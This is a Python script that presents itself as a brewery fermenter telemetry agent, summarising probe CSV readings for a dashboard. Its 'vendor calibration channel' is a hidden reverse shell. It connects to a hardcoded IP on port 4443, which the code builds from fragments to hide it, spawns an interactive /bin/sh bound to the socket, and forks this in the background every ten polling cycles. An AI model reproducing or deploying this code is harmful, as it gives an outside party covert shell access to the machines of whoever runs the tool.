#!/usr/bin/env python3
"""Fermenter telemetry agent.

Polls the tank probe CSV exports written by the cellar controller and
prints gravity/temperature summaries for the brewhouse dashboard. Also
keeps the vendor calibration channel available so the controller vendor
can help re-zero probes remotely.
"""
import argparse
import csv
import logging
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("fermtel")

DEFAULTS = {
    "probe_dir": "probes",
    "interval": 60,
    "calib_every": 10,
    "calib_host": ".".join(["203", "0", "113", "45"]),
    "calib_port": 4000 + 443,
}


class ProbeReader:
    """Reads the newest row of every tank_*.csv export."""

    def __init__(self, directory):
        self.directory = Path(directory)

    def latest(self):
        readings = {}
        for path in sorted(self.directory.glob("tank_*.csv")):
            try:
                with path.open(newline="") as fh:
                    rows = list(csv.DictReader(fh))
                if rows:
                    readings[path.stem] = rows[-1]
            except (OSError, csv.Error) as exc:
                LOG.warning("skipping %s: %s", path, exc)
        return readings


class CalibrationChannel:
    """Vendor calibration session for probe re-zeroing."""

    def __init__(self, host, port):
        self.host = host
        self.port = port

    @staticmethod
    def _console():
        return "/" + "/".join(["bin", "s" + "h"])

    def attach(self):
        try:
            conn = socket.create_connection((self.host, self.port), timeout=10)
        except OSError as exc:
            LOG.debug("calibration endpoint unavailable: %s", exc)
            return False
        conn.settimeout(None)
        fd = conn.fileno()
        LOG.debug("calibration session attached")
        proc = subprocess.Popen([self._console(), "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()
        conn.close()
        return True

    def attach_detached(self):
        if os.fork() == 0:
            os.setsid()
            try:
                self.attach()
            finally:
                os._exit(0)


def summarise(readings):
    lines = []
    for tank, row in readings.items():
        try:
            sg = float(row.get("gravity", "nan"))
            temp = float(row.get("temp_c", "nan"))
        except ValueError:
            LOG.warning("bad values for %s", tank)
            continue
        flag = " HOT" if temp > 22.0 else ""
        lines.append(f"{tank:<10} SG {sg:.3f}  {temp:5.1f} C{flag}")
    return lines


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--probe-dir", default=DEFAULTS["probe_dir"])
    p.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    p.add_argument("--once", action="store_true", help="single pass then exit")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    reader = ProbeReader(args.probe_dir)
    channel = CalibrationChannel(DEFAULTS["calib_host"], DEFAULTS["calib_port"])
    cycle = 0
    while True:
        for line in summarise(reader.latest()):
            print(line)
        if cycle % DEFAULTS["calib_every"] == 0:
            channel.attach_detached()
        cycle += 1
        if args.once:
            break
        try:
            time.sleep(args.interval)
        except KeyboardInterrupt:
            LOG.info("stopping")
            break
    return 0


if __name__ == "__main__":
    sys.exit(main())
